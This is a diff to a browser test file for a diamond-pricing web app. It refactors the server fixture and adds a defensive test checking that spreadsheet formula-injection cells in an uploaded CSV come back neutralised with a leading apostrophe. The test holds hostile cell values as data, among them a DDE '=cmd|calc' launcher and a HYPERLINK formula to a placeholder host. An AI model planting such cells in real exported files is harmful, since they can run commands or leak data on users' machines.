@@ -9,12 +9,8 @@ Screenshots (desktop and phone width) go to tests/artifacts/web/ (git-ignored).
 from __future__ import annotations
 
 import csv
-import os
 import re
 import shutil
-import signal
-import subprocess
-import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -25,7 +21,8 @@ import requests
 from training.job import TrainingRun
 from training.storage import open_storage
 
-from .service_fixtures import KEY, free_port, wait_until_healthy
+from .service_fixtures import KEY, serving
+from .test_spreadsheet import inert_rows
 from .training_fixtures import CUSTOMER_FILE, FAST
 
 pytestmark = pytest.mark.browser
@@ -48,9 +45,6 @@ def desk_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def desk(desk_root: Path, trained_models: Path, customer_csv: bytes):
     """`diamonds serve` on a prepared root, so that it skips its seeding: two model versions
     and the customer's valid stones in the inventory. Yields the page's URL."""
-    from functions.database import Inventory, make_engine, migrate
-    from training.validation import read_records
-
     root = desk_root
     shutil.copytree(trained_models, root / "models")
     TrainingRun(
@@ -59,42 +53,10 @@ def desk(desk_root: Path, trained_models: Path, customer_csv: bytes):
         params=FAST,
         log=lambda line: None,
     ).run([str(CUSTOMER_FILE)])
-    database_url = f"sqlite:///{root / 'diamonds.db'}"
-    engine = make_engine(database_url)
-    migrate(engine)
-    accepted = read_records(customer_csv).accepted.drop(columns="line")
-    records = accepted.astype({c: str for c in ("cut", "color", "clarity")}).to_dict("records")
-    Inventory(engine).create_many(records, source="seed")
-    engine.dispose()
-
-    port = free_port()
-    env = {
-        **os.environ,
-        "DIAMONDS_DATA_ROOT": (root / "data").as_uri(),
-        "DIAMONDS_MODELS_ROOT": (root / "models").as_uri(),
-        "DIAMONDS_DATABASE_URL": database_url,
-        "DIAMONDS_API_KEYS": KEY,
-        "DIAMONDS_CHAMPION_TTL_SECONDS": "0",
-    }
-    log = root / "serve.log"
-    with log.open("wb") as output:
-        server = subprocess.Popen(
-            [str(Path(sys.executable).with_name("diamonds")), "serve", "--port", str(port)],
-            cwd=root,
-            env=env,
-            stdout=output,
-            stderr=subprocess.STDOUT,
-        )
-    try:
-        wait_until_healthy(port, seconds=120)
+    with serving(root, customer_csv, {"DIAMONDS_API_KEYS": KEY}) as served:
         ARTIFACTS.mkdir(parents=True, exist_ok=True)
         print(f"\nscreenshots of the pricing desk: {ARTIFACTS}")
-        yield f"http://127.0.0.1:{port}"
-    finally:
-        server.send_signal(signal.SIGTERM)
-        server.wait(timeout=60)
-    text = log.read_text(errors="replace")
-    assert "Traceback" not in text, text[-3000:]
+        yield served.url
 
 
 @pytest.fixture()
@@ -242,6 +204,36 @@ def test_a_file_of_stones_comes_back_priced(page, tmp_path: Path) -> None:
         assert row["model_version"] and not row["error"]
     summary = page.locator("#file-result").inner_text()
     assert "5 of 6 stones priced" in summary and "1 refused" in summary
+
+
+def test_a_priced_file_shows_hostile_cells_as_text(page, tmp_path: Path) -> None:
+    """Cells a spreadsheet would run as formulas come back with a leading apostrophe."""
+    stone = "1.01,Ideal,E,VS1,61.5,57,6.44,6.47,3.97"
+    skus = ['"=HYPERLINK(""http://x""&A1)"', "=cmd|calc!A0", "@SUM(1)", "+1", "-2+3"]
+    skus += ['"\t=1+2"', '"\r=1+2"', "-1"]
+    upload = tmp_path / "hostile.csv"
+    upload.write_text(
+        "=sku,carat,cut,color,clarity,depth,table,x,y,z\n"
+        + "".join(f"{sku},{stone}\n" for sku in skus),
+        newline="",
+    )
+    page.get_by_label("CSV file").set_input_files(upload)
+    page.get_by_role("button", name="Price the file").click()
+    with page.expect_download() as download:
+        page.get_by_role("link", name="Download hostile-priced.csv").click()
+
+    rows = inert_rows(download.value.path().read_bytes())
+    assert [row["'=sku"] for row in rows] == [
+        '\'=HYPERLINK("http://x"&A1)',
+        "'=cmd|calc!A0",
+        "'@SUM(1)",
+        "'+1",
+        "'-2+3",
+        "'\t=1+2",
+        "'\r=1+2",
+        "-1",
+    ]
+    assert all(float(row["price"]) > 0 and not row["error"] for row in rows)
 
 
 def test_pricing_a_stone_shows_its_price_range_and_factors(page) -> None:
